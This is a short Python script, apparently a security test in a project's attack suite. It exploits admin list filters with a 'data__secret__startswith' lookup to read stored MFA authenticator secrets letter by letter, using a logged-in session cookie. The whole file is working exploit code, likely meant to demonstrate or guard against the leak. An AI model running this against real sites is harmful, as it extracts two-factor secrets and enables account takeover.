"""Attack: read what the admin does not show by asking its lists which rows begin with what.

By hand: `python -m tests.attacks.admin_filters http://127.0.0.1:PORT SESSIONID` with the session of
someone who may view authenticators; it prints what it found out of the first secret.
"""

import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from urllib.parse import urlencode

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"  # Of base 32: secrets of two steps.
LIST = "/admin/mfa/authenticator/"
LOOKUP = "data__secret__startswith"


def read_out(get: Callable[[str], str], path: str, lookup: str, most: int, has_rows: str) -> str:
    """Return how much of a value could be guessed, at most so many letters.

    `get` returns the page of an address, "" if it was refused; `has_rows` stands in a list that
    has rows.
    """
    found = ""
    while len(found) < most:
        for letter in ALPHABET:
            if has_rows in get(f"{path}?{urlencode({lookup: found + letter})}"):
                found += letter
                break
        else:
            break
    return found


def main() -> None:
    base, session = sys.argv[1:3]

    def get(path: str) -> str:
        request = urllib.request.Request(base + path, headers={"Cookie": f"sessionid={session}"})
        try:
            with urllib.request.urlopen(request, timeout=30) as answer:
                return answer.read().decode()
        except urllib.error.HTTPError:
            return ""

    print(f"read out: {read_out(get, LIST, LOOKUP, 32, 'result_list')!r}")


if __name__ == "__main__":
    main()
